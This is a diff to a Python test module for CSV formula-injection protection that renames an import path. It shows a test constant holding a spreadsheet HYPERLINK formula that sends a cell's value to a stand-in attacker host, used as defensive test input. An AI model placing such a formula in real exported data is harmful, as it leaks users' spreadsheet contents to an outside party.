@@ -1,4 +1,4 @@
-"""CSV downloads cannot carry spreadsheet formulas (core.csv_export), and every one of the
+"""CSV downloads cannot carry spreadsheet formulas (core.runs.csv_export), and every one of the
 app's CSV downloads is written by it."""
 
 import ast
@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pandas as pd
 
-from core.csv_export import csv_bytes, neutralise_cell
+from core.runs.csv_export import csv_bytes, neutralise_cell
 from core.settings import PROJECT_ROOT
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your results")'
